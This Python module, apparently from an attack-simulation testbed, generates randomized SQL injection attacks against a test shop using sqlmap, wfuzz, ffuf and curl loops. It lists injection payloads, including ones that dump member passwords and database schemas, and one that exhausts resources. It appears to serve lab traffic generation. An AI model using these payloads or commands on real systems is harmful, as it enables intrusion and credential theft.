"""Injection of SQL into pages of the shop."""

from testbed.attacks.material import ANYWHERE, maybe, pause, user_agent, words
from testbed.attacks.web import root
from testbed.catalogue import Assault, attack

EXPLOIT = "T1190"
INJECTIONS = (
    "1'",
    '1"',
    "1 OR 1=1",
    "1' OR '1'='1",
    "1; --",
    "1) OR (1=1",
    "1 UNION SELECT 1,2",
    "1 UNION SELECT name,sql FROM sqlite_master",
    "1 UNION SELECT name,password FROM members",
    "1 ORDER BY 3",
    "1 AND 1=2",
    "1 AND sqlite_version()>0",
    "-1 UNION SELECT 1,sqlite_version()",
    "1'/**/OR/**/1=1",
    "1 AND (SELECT count(*) FROM members)>5",
    "%' UNION SELECT name,password FROM members --",
    "' UNION SELECT tbl_name,sql FROM sqlite_master --",
    "1 AND randomblob(100000000)",
    "x'||'y",
    "1 GROUP BY 1",
)


def item(c) -> str:
    """A page of the shop that takes a number."""
    return f"{root(c)}{c.conventions.shop}/item?{c.conventions.item}="


def encoded(injection: str) -> str:
    return "".join(letter if letter.isalnum() else f"%{ord(letter):02X}" for letter in injection)


@attack(
    "web_sqli",
    technique=EXPLOIT,
    tool="sqlmap",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("sqlmap",),
    seconds=40,
)
def sqlmap(c):
    target = c.choose(
        f'-u "{item(c)}{c.between(2, 90)}"', f'-u "{root(c)}{c.conventions.shop}/search?q=item-{c.between(1, 9)}" -p q'
    )
    return Assault(
        words(
            "sqlmap --batch --ignore-stdin --flush-session --output-dir=$PWD/sqlmap",
            target,
            f"--threads {c.between(1, 4)} --level {c.between(1, 2)} --risk {c.between(1, 2)}",
            f"--technique {c.choose('BEU', 'BU', 'BE', 'BEUT', 'U')}",
            maybe(c, 0.5, "--random-agent"),
            maybe(c, 0.4, f"--delay {c.between(0.02, 0.3)}"),
            maybe(c, 0.3, f"--tamper {c.choose('space2comment', 'randomcase', 'between')}"),
            c.choose("--tables", "--dump -T members", "--banner", "--dump -T items --stop 40"),
        )
    )


@attack(
    "web_sqli",
    technique=EXPLOIT,
    tool="wfuzz",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("wfuzz",),
    seconds=30,
)
def wfuzz_injection(c):
    return Assault(
        words(
            "wfuzz",
            f"-t {c.between(1, 6)}",
            maybe(c, 0.5, f"-s {c.between(0.05, 0.3)}"),
            f"-H 'User-Agent: {user_agent(c)}' -z file,{injections(c)},urlencode '{item(c)}FUZZ'",
        )
    )


@attack(
    "web_sqli", technique=EXPLOIT, tool="curl", origins=ANYWHERE, needs=("web", "shop"), packages=("curl",), seconds=40
)
def curl_injection(c):
    page = c.choose(item(c), f"{root(c)}{c.conventions.shop}/search?q=")
    tries = " ".join(f"'{encoded(injection)}'" for injection in c.random.choices(INJECTIONS, k=c.between(8, 30)))
    return Assault(
        f"for injection in {tries}; do curl -sk -m 8 -A '{user_agent(c)}' -o /dev/null \"{page}$injection\";"
        f" {pause(c.between(0.1, 1.2))}; done"
    )


@attack(
    "web_sqli", technique=EXPLOIT, tool="ffuf", origins=ANYWHERE, needs=("web", "shop"), packages=("ffuf",), seconds=30
)
def ffuf_injection(c):
    return Assault(
        words(
            "ffuf -s -k",
            f"-t {c.between(1, 8)}",
            maybe(c, 0.5, f"-p {c.between(0.1, 0.5)}"),
            f"-H 'User-Agent: {user_agent(c)}' -w {injections(c, encoded)} -u '{item(c)}FUZZ' -mc all",
        )
    )


def injections(c, encode=str):
    drawn = [
        f"{c.choose('', str(c.between(1, 99)))}{injection}" for injection in INJECTIONS for _ in range(c.between(1, 3))
    ]
    c.random.shuffle(drawn)
    return c.write("injections", "\n".join(map(encode, drawn)) + "\n")
